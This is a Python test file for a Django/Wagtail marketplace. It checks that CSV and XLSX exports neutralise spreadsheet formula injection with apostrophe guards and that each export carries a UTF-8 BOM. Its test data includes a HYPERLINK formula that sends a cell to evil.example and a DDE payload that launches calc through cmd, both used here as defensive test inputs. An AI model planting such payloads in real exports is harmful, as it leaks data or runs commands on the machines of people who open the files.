"""Every CSV/XLSX export keeps formula-like texts as text, starts with a BOM and names its charset."""
from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.core.management import call_command
from django.urls import reverse
from wagtail.log_actions import log
from wagtail.models import Page

from marketplace import spreadsheets
from marketplace.catalog.listing_csv import COLUMNS
from marketplace.catalog.models import AdminUnit, Product
from marketplace.livestreams.services.reports import COLUMNS as REPORT_COLUMNS
from marketplace.livestreams.services.reports import SessionReport, session_report_csv
from tests import factories

from .test_import_listings import run, snapshot, write

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
TRICKY = [FORMULA, "+84 912", "-5", "@SUM(A1)", "\tx", "\rx", "'=1+1", "''-x", "'plain", "plain", "", "a=b"]


@pytest.mark.parametrize("value", TRICKY)
def test_guard_makes_formulas_text_and_unguard_undoes_it_exactly(value):
    guarded = spreadsheets.guard(value)
    assert not guarded or guarded[0] not in "=+-@\t\r"
    assert spreadsheets.unguard(guarded) == value
    assert spreadsheets.guard(-5) == -5  # numbers stay numbers


def test_export_listings_guards_formulas_has_a_bom_and_round_trips(db, tmp_path):
    header = ",".join(COLUMNS) + ",weight_gram,producer_phone"
    rows = [
        f'-GP-1,"{FORMULA.replace(chr(34), chr(34) * 2)}","- Chuối tây sấy dẻo",@cat,+túi 1kg,120000,15,4,=HTX Gia Phú,02923,1000,'
        "0912345678",
        "GP-2,Trà sen,''- không đổi,,hộp 100g,90000,0,,Hộ An,02923,,0987654321",
    ]
    run(write(tmp_path, rows, header=header))
    assert Product.objects.filter(name=FORMULA, description="- Chuối tây sấy dẻo").exists()
    assert Product.objects.filter(description="'- không đổi").exists()  # one apostrophe read as the guard

    exported = tmp_path / "export.csv"
    call_command("export_listings", str(exported), stdout=io.StringIO())
    raw = exported.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    cells = [cell for row in csv.reader(io.StringIO(raw.decode("utf-8-sig"))) for cell in row]
    assert "'" + FORMULA in cells and "'- Chuối tây sấy dẻo" in cells and "'-GP-1" in cells
    assert "'=HTX Gia Phú" in cells and "'+túi 1kg" in cells
    assert "''- không đổi" in cells  # an apostrophe that is content survives too
    assert not [c for c in cells if c and c[0] in "=+-@"]

    before = snapshot()
    output = run(str(exported))
    assert snapshot() == before
    assert "0 tạo mới, 0 cập nhật, 2 không đổi" in output


def _streamed(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.fixture
def operator(db):
    return factories.UserFactory(username="vanhanh", is_superuser=True, is_staff=True)


def test_expiring_certificates_csv_and_xlsx_keep_formulas_as_text(client, operator, make_listing):
    make_listing(name=FORMULA, stars=4, decision_number="-1/QĐ", issued_on=__import__("datetime").date(2020, 1, 1))
    client.force_login(operator)
    url = reverse("ocop_certificates_expiring")

    response = client.get(url, {"export": "csv"})
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    body = _streamed(response)
    assert body.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert rows[1][0] == "'" + FORMULA and rows[1][4] == "'-1/QĐ"

    response = client.get(url, {"export": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(_streamed(response))).active
    cell = sheet.cell(row=2, column=1)
    assert (cell.value, cell.data_type, cell.quotePrefix) == (FORMULA, "s", True)


def test_wagtails_own_reports_are_guarded_too(client, operator, producer_page):
    Page.objects.filter(pk=producer_page.pk).update(title=FORMULA, draft_title=FORMULA)
    log(instance=Page.objects.get(pk=producer_page.pk), action="wagtail.edit", user=operator)
    client.force_login(operator)
    response = client.get("/admin/reports/site-history/", {"export": "csv"})
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    body = _streamed(response).decode("utf-8")
    assert body.startswith("\ufeff")
    cells = [cell for row in csv.reader(io.StringIO(body.lstrip("\ufeff"))) for cell in row]
    assert "'" + FORMULA in cells and FORMULA not in cells


def test_promotion_compliance_csv_guards_commune_names(client, operator, producer_page):
    AdminUnit.objects.filter(pk=producer_page.producer.commune_id).update(name="=cmd|' /C calc'!A0")
    client.force_login(operator)
    response = client.get("/admin/ocop/news/compliance/", {"export": "csv"})
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert ["02923", "'=cmd|' /C calc'!A0"] == rows[1][:2]


def test_livestream_report_csv_guards_product_names():
    row = dict.fromkeys(REPORT_COLUMNS, 0) | {"start": "01/09/2025 20:00", "status": "x", "sku": "-A", "product": FORMULA}
    text = session_report_csv(report=SessionReport(session=None, rows=[row], totals={}))
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows[1][3:5] == ["'-A", "'" + FORMULA]
